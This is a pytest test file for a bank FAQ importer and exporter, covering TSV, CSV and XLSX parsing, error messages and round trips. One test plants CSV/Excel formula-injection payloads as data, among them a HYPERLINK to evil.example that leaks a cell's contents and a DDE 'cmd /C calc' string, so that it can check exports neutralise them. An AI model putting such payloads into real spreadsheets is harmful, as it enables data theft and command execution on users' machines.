"""Importer: both shapes, all three formats, and bad files that must write nothing."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import select
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import Session, sessionmaker

from core.db import session_scope
from crm.knowledge import KnowledgeDraft, export_points, upsert_points
from crm.models.knowledge import KnowledgePoint
from faq.io import FaqImportError, read_knowledge_file, write_knowledge


def test_pairs_shape_groups_questions_by_answer(tmp_path: Path) -> None:
    path = tmp_path / "pairs.tsv"
    path.write_text(
        "卡丢了怎么办\t请挂失。\n银行卡找不到了\t请挂失。\n几点上班\t九点。\n\n卡被偷了\t请挂失。\n", "utf-8"
    )
    drafts = read_knowledge_file(path)
    assert [d.standard_question for d in drafts] == ["卡丢了怎么办", "几点上班"]
    assert drafts[0].similar_questions == ("银行卡找不到了", "卡被偷了")


def test_columns_shape_csv_with_newline_separated_similar_questions(tmp_path: Path) -> None:
    path = tmp_path / "kb.csv"
    path.write_text(
        '标准问题,相似问题,答案,分类,失效日期\n几点上班,"银行几点开门\n周末开门吗|几点关门",九点。,网点,2030-01-01\n',
        "utf-8",
    )
    (draft,) = read_knowledge_file(path)
    assert draft.similar_questions == ("银行几点开门", "周末开门吗", "几点关门")
    assert draft.category == "网点" and str(draft.valid_to) == "2030-01-01"


def test_xlsx_and_gbk_csv(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["standard_question", "similar_questions", "answer", "category"])
    ws.append(["怎么挂失", "卡丢了|卡不见了", "请挂失。", "卡"])
    wb.save(tmp_path / "kb.xlsx")
    assert read_knowledge_file(tmp_path / "kb.xlsx")[0].similar_questions == ("卡丢了", "卡不见了")
    (tmp_path / "gbk.csv").write_bytes("问题,答案\n卡丢了,请挂失。\n".encode("gb18030"))
    assert read_knowledge_file(tmp_path / "gbk.csv")[0].answer == "请挂失。"


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        ("只有一列\n", "两列"),
        ("standard_question\tsimilar_questions\tanswer\n问\t\t\n", "不能为空"),
        ("standard_question\tsimilar_questions\tanswer\tvalid_to\n问\t\t答\t明天\n", "日期"),
        ("standard_question\tsimilar_questions\tanswer\n甲\t同一句\t答1\n乙\t同一句\t答2\n", "两个知识点"),
        ("问一\t答一\n问一\t答二\n", "两个不同的答案"),
        ("", "文件为空"),
    ],
)
def test_bad_files_raise_clear_errors(tmp_path: Path, content: str, fragment: str) -> None:
    path = tmp_path / "bad.tsv"
    path.write_text(content, "utf-8")
    with pytest.raises(FaqImportError) as info:
        read_knowledge_file(path)
    assert fragment in str(info.value) and "未写入" in str(info.value)


def test_unsupported_extension(tmp_path: Path) -> None:
    (tmp_path / "kb.doc").write_text("x", "utf-8")
    with pytest.raises(FaqImportError, match="不支持"):
        read_knowledge_file(tmp_path / "kb.doc")


def test_failed_transaction_writes_nothing(factory: sessionmaker[Session]) -> None:
    drafts = [KnowledgeDraft("甲", "答"), KnowledgeDraft("乙", None)]  # type: ignore[arg-type]
    with pytest.raises(IntegrityError), session_scope(factory) as session:
        upsert_points(session, drafts)
    with session_scope(factory) as session:
        assert session.scalars(select(KnowledgePoint)).all() == []


def test_upsert_updates_and_replace_deactivates(factory: sessionmaker[Session], small_kb: Path) -> None:
    with session_scope(factory) as session:
        first = upsert_points(session, read_knowledge_file(small_kb))
    assert first.created == 5
    with session_scope(factory) as session:
        again = upsert_points(session, [KnowledgeDraft("网点营业时间是几点", "周末也营业。")], replace=True)
    assert (again.created, again.updated, again.deactivated) == (0, 1, 4)
    with session_scope(factory) as session:
        active = [p.standard_question for p in export_points(session, include_inactive=False)]
    assert active == ["网点营业时间是几点"]


def test_export_round_trips(factory: sessionmaker[Session], small_kb: Path, tmp_path: Path) -> None:
    with session_scope(factory) as session:
        upsert_points(session, read_knowledge_file(small_kb))
        points = export_points(session)
    for name in ("out.tsv", "out.csv", "out.xlsx"):
        write_knowledge(points, tmp_path / name)
        back = read_knowledge_file(tmp_path / name)
        assert [(d.standard_question, d.similar_questions, d.answer) for d in back] == [
            (p.standard_question, tuple(p.similar_questions), p.answer) for p in points
        ]


def test_an_export_holds_no_formula_and_still_round_trips(factory: sessionmaker[Session], tmp_path: Path) -> None:
    """Probe: customers' unanswered questions become knowledge points (insights), and a question
    typed as ``=HYPERLINK(...)`` was exported as a live formula for staff to open in Excel/WPS."""
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
    drafts = [KnowledgeDraft("@SUM(1+1)*cmd|' /C calc'!A0", "-先打客服电话。", (evil, "+86 怎么转账"), "其他"),
              KnowledgeDraft("怎么挂失", "请挂失。", ("卡丢了",), "卡")]  # fmt: skip
    with session_scope(factory) as session:
        upsert_points(session, drafts)
        points = export_points(session)
    for name in ("out.tsv", "out.csv"):
        write_knowledge(points, tmp_path / name)
        text = (tmp_path / name).read_text(encoding="utf-8")
        for line in text.splitlines()[1:]:
            cells = line.split("\t" if name.endswith(".tsv") else ",")
            assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), line
    write_knowledge(points, tmp_path / "out.xlsx")
    ws = load_workbook(tmp_path / "out.xlsx").worksheets[0]
    assert all(cell.data_type != "f" for cells in ws.iter_rows() for cell in cells)
    for name in ("out.tsv", "out.csv", "out.xlsx"):
        back = read_knowledge_file(tmp_path / name)
        assert [(d.standard_question, d.similar_questions, d.answer) for d in back] == [
            (p.standard_question, tuple(p.similar_questions), p.answer) for p in points
        ], name


def test_bank_csv_with_serial_column_and_semicolon_separated_similar_questions(tmp_path: Path) -> None:
    # As a bank's website FAQ is handed over: 序号 first, 业务类别, similar questions joined by "；".
    path = tmp_path / "bank.csv"
    path.write_text(
        "序号,业务类别,问题,相似问法,答案\n1,借记卡,借记卡遗失后如何挂失？,银行卡丢失怎么办；借记卡挂失方式,请挂失。\n",
        "utf-8",
    )
    (draft,) = read_knowledge_file(path)
    assert draft.standard_question == "借记卡遗失后如何挂失？"
    assert draft.similar_questions == ("银行卡丢失怎么办", "借记卡挂失方式")
    assert draft.category == "借记卡"


def test_title_row_above_a_question_answer_header_groups_rows_by_answer(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["某某农村商业银行常见问题"])
    ws.append(["序号", "常见问题", "答复", "所属分类"])
    ws.append([1, "几点上班", "九点。", "网点"])
    ws.append([2, "银行几点开门", "九点。", "网点"])
    ws.append([3, "怎么挂失", "请挂失。", "银行卡"])
    wb.save(tmp_path / "kb.xlsx")
    drafts = read_knowledge_file(tmp_path / "kb.xlsx")
    assert [(d.standard_question, d.similar_questions, d.category) for d in drafts] == [
        ("几点上班", ("银行几点开门",), "网点"),
        ("怎么挂失", (), "银行卡"),
    ]


def test_header_notes_in_brackets_and_tsv_saved_as_csv(tmp_path: Path) -> None:
    path = tmp_path / "kb.csv"
    path.write_text("标准问题\t相似问题（多个用|分隔）\t答案\n几点上班\t几点开门|周末开吗\t九点。\n", "utf-8")
    (draft,) = read_knowledge_file(path)
    assert draft.similar_questions == ("几点开门", "周末开吗")


def test_many_columns_without_a_header_name_the_expected_header(tmp_path: Path) -> None:
    path = tmp_path / "kb.csv"
    path.write_text("编号,提问,内容\n1,几点上班,九点。\n", "utf-8")
    with pytest.raises(FaqImportError) as err:
        read_knowledge_file(path)
    assert "没有找到表头" in str(err.value) and "“问题”和“答案”" in str(err.value)


def test_phrasing_advice_only_when_most_points_have_few_phrasings() -> None:
    from faq.io import phrasing_advice

    sparse = [
        KnowledgeDraft(standard_question=f"问{i}", answer=f"答{i}", similar_questions=("另一种问法",)) for i in range(4)
    ]
    rich = [
        KnowledgeDraft(
            standard_question=f"问{i}", answer=f"答{i}", similar_questions=tuple(f"问法{j}" for j in range(6))
        )
        for i in range(4)
    ]
    advice = phrasing_advice(sparse)
    assert advice is not None and "4/4" in advice and "平均 2.0 个" in advice
    assert phrasing_advice(rich) is None
    assert phrasing_advice(rich[:3] + sparse[:1]) is None
    assert phrasing_advice([]) is None
